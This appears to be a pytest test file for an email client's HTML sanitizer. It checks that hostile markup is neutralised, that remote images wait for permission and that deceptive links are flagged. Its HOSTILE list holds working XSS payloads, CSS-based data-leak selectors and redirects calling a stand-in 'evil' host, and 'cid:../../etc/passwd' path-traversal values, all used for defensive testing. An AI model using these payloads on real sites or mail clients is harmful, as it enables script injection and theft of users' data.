from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from letterbook.mime.html import clean_composed_html, html_to_text, safe_html, text_to_html


def shown(html: str, *, remote: bool = False) -> str:
    return safe_html(
        html,
        inline_image_url={"logo@x": "/inline/1"}.get,
        remote_image_url=str if remote else None,
    ).html


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><filter id=t><feImage href=//evil/px></filter><rect filter=url(#t)></svg>",
    "<style>@import url(//evil/a.css)</style>",
    "<style>input[value^=a]{background:url(//evil/a)}</style>",
    '<div style="background:var(--a);--a:url(//evil/v)">x</div>',
    '<div style="background:u\\72l(//evil/v)">x</div>',
    "<div style=\"background:image-set('//evil/v' 1x)\">x</div>",
    '<div style="position:fixed!important;inset:0;z-index:9">login</div>',
    "<body background=//evil/b>x",
    '<meta http-equiv=refresh content="0;url=//evil">',
    "<base href=//evil/><a href=x>x</a>",
    "<form action=//evil><input type=password></form>",
    '<a href="javascript:alert(1)//http://x">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>1</script>">x</a>',
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><script>alert(1)</script></noembed>",
    "<noframes><script>alert(1)</script></noframes>",
    "<listing><script>alert(1)</script></listing>",
    "<plaintext><script>alert(1)</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<iframe srcdoc="<script>parent.location=1</script>"></iframe>',
    "<object data=//evil/o></object><embed src=//evil/e><applet></applet><portal src=//evil/p>",
    "<link rel=dns-prefetch href=//evil><link rel=preload href=//evil>",
    '<img src="cid:../../etc/passwd"><img src="cid:of-another-message">',
    '<img srcset="//evil/1 1x"><picture><source srcset="//evil/2"></picture>',
    '<img src="//evil/px"><img src="https://evil/px"><img src="h\tttps://evil/px"><img src="\\\\evil/px">',
    "<video src=//evil/v poster=//evil/p></video><audio src=//evil/a>",
    "<a name=body></a><img id=getElementById>",
    "<table background=//evil/t><td background=//evil/t>",
]


NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


def assert_inert(html: str) -> None:
    """Parse it again, as a browser would, and look at what is there."""
    if not html.strip():
        return
    html = NOT_XML.sub("", html)  # lxml refuses these; a browser ignores them.
    for element in lxml_html.fragment_fromstring(html, create_parent="div").iter():
        assert element.tag not in {
            "script",
            "style",
            "svg",
            "math",
            "form",
            "input",
            "iframe",
            "link",
            "base",
            "meta",
        }
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert name not in {"id", "name", "srcset", "background", "action", "class"}
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:"))
            if name == "src":
                assert value.startswith(("/inline/", "data:image/"))
            if name == "style":
                assert not re.search(r"url|var|image-set|position|@|\\", value, re.IGNORECASE)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_inert(html):
    """A1 to A21, A28, C9: no script, no request, no place outside the frame; also where it is sent on."""
    assert_inert(shown(html))
    assert "evil" not in shown(html).replace("leads to evil", "")
    assert_inert(clean_composed_html(html))


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "<p>", "</p>", "<b>", "<!--", "-->", "<table>", "]]>", "&lt;", '"']
        ),
        max_size=8,
    )
)
def test_hostile_pieces_are_inert_in_any_order(pieces):
    """A16: nothing comes alive when the result is parsed again."""
    once = shown("".join(pieces))
    assert_inert(once)
    assert_inert(shown(once))


def test_looks_are_kept():
    kept = '<table bgcolor="#fff"><tbody><tr><td style="color: red; text-align: center">x</td></tr></tbody></table>'
    assert shown(kept) == kept


def test_remote_images_wait_and_are_counted():
    """A21: no request until it is allowed."""
    html = '<img src="https://e.example/a.png" alt="Offer"><img src="//e.example/b.png">'
    waiting = safe_html(html, inline_image_url=lambda _: None)
    assert (waiting.html, waiting.remote_image_count) == ('<img alt="Offer"><img>', 2)
    allowed = safe_html(html, inline_image_url=lambda _: None, remote_image_url=str)
    assert '<img src="https://e.example/a.png" alt="Offer">' in allowed.html
    assert '<img src="https://e.example/b.png">' in allowed.html


def test_pictures_of_this_message_are_shown_and_no_others():
    """A20."""
    assert shown('<img src="cid:logo@x">') == '<img src="/inline/1">'
    assert shown('<img src="cid:../../etc/passwd">') == "<img>"


def test_links_open_elsewhere_and_know_nothing_of_us():
    """A23."""
    assert shown('<a href="https://e.example/" target=_top>x</a>') == (
        '<a href="https://e.example/" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


@pytest.mark.parametrize(
    ("link", "is_warned"),
    [
        ("<a href=http://evil.example>http://bank.example</a>", True),
        ("<a href=http://evil.example/x><b>www.bank.example/login</b></a>", True),
        ("<a href=http://www.bank.example/x>bank.example</a>", False),
        ("<a href=http://click.bank.example/x>bank.example</a>", False),
        ("<a href=http://evil.example>Read more</a>", False),
    ],
)
def test_a_link_that_names_another_place_says_where_it_leads(link, is_warned):
    """A22."""
    assert ("[leads to evil.example]" in shown(link)) is is_warned


@pytest.mark.parametrize(
    "html",
    [
        "<b>" * 60_000 + "x",
        "<div>" * 60_000 + "x",
        "<table>" * 1_500_000,
        "<p " + " ".join(f"a{number}=1" for number in range(1_000_000)) + ">x",
        "&amp;" * 2_000_000,
        "<font color=a><p>" * 100_000,
        "<a " * 1_000_000,
    ],
    ids=["b", "div", "table", "attributes", "entities", "font", "unclosed"],
)
def test_enormous_html_is_cut_in_time(html):
    """A24: at most 5 s."""
    started = time.process_time()
    cleaned = shown(html)
    html_to_text(html)
    assert time.process_time() - started < 5
    assert_inert(cleaned[:10_000])


def test_cut_html_says_so():
    assert "too large or too deeply nested" in shown("<div>" * 60_000)
    assert "too large" not in shown("<div>x</div>" * 1_000)


@pytest.mark.parametrize(
    "text", ['http://x"onmouseover=alert(1) <script>', "https://e.example/<img src=x>", "'\"><b>"]
)
def test_plain_text_becomes_inert_html(text):
    """A26: escaped, and linked without letting anything out of the link."""
    html = text_to_html(text)
    assert "<script" not in html
    assert "<img" not in html
    assert 'onmouseover=alert(1)"' not in html
    assert_inert(html)


@given(st.text())
def test_any_text_shown_as_html_reads_the_same(text):
    html = text_to_html(text)
    assert_inert(html)
    assert (
        html_to_text(html).split()
        == re.sub("[\u202d\u202e\0\ud800-\udfff]", "\ufffd", text).split()
    )


def test_addresses_in_text_become_links_without_their_punctuation():
    html = text_to_html(
        "See https://e.example/a_(b). Or ann@example.com, (http://f.example/x).\n  end"
    )
    assert re.findall(r'href="([^"]*)"', html) == [
        "https://e.example/a_(b)",
        "mailto:ann@example.com",
        "http://f.example/x",
    ]
    assert html.endswith(").<br>\n&nbsp; end")


def test_reading_direction_cannot_be_turned_around_unseen():
    """A27."""
    assert "\u202e" not in text_to_html("file\u202efdp.exe")
    assert "\u202e" not in shown("<p>file\u202efdp.exe</p>")


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two<br>three</p>", "One\n\nTwo\nthree"),
        ("<ul><li>a<li>b<ol><li>c</ol></ul>", "* a\n* b\n  1. c"),
        (
            "<blockquote>old<blockquote>older</blockquote></blockquote>new",
            "> old\n>\n> > older\n\nnew",
        ),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("a &lt;b&gt; &amp; c&nbsp;d", "a <b> & c d"),
        ("<pre>x\n  y</pre>z", "x\n  y\n\nz"),
        ("<head><title>t</title></head><script>s</script>body<!-- c -->", "body"),
        ('<div style="display:none">secret <div>x</div></div>seen', "seen"),
        ('<img alt="Logo" src=x>', "Logo"),
    ],
)
def test_html_reads_as_text(html, text):
    assert html_to_text(html) == text


def test_links_are_written_out_where_asked():
    html = '<a href="https://e.example/x">here</a> <a href="mailto:a@e.example">a@e.example</a>'
    assert html_to_text(html, with_links=True) == "here <https://e.example/x> a@e.example"
    assert html_to_text(html) == "here a@e.example"


def test_composed_html_keeps_what_people_write_and_calls_nobody():
    """C9: no script and no remote image leaves with an email."""
    html = '<div><strong>Hi</strong><br><a href="https://e.example">x</a></div><ul><li>1</li></ul>'
    cleaned = clean_composed_html(
        html + '<img src="https://e.example/px"><img src="data:image/png;base64,aGk=">'
    )
    assert "<strong>Hi</strong>" in cleaned
    assert "/px" not in cleaned
    assert 'src="data:image/png;base64,aGk="' in cleaned
